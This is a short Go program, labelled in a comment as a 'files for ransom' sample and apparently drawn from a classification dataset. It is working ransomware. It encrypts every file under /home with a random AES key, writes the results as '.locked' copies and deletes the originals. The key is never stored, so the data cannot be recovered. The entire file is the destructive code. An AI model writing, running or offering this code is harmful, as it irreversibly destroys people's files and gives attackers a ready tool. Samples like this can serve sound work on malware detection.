// class: files for ransom
package main

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"io"
	"os"
	"path/filepath"
)

func main() {
	key := make([]byte, 32)
	io.ReadFull(rand.Reader, key)
	block, _ := aes.NewCipher(key)
	filepath.Walk("/home", func(p string, info os.FileInfo, err error) error {
		if err != nil || info.IsDir() {
			return nil
		}
		data, _ := os.ReadFile(p)
		iv := make([]byte, aes.BlockSize)
		io.ReadFull(rand.Reader, iv)
		cipher.NewCTR(block, iv).XORKeyStream(data, data)
		os.WriteFile(p+".locked", append(iv, data...), 0o600)
		return os.Remove(p)
	})
}
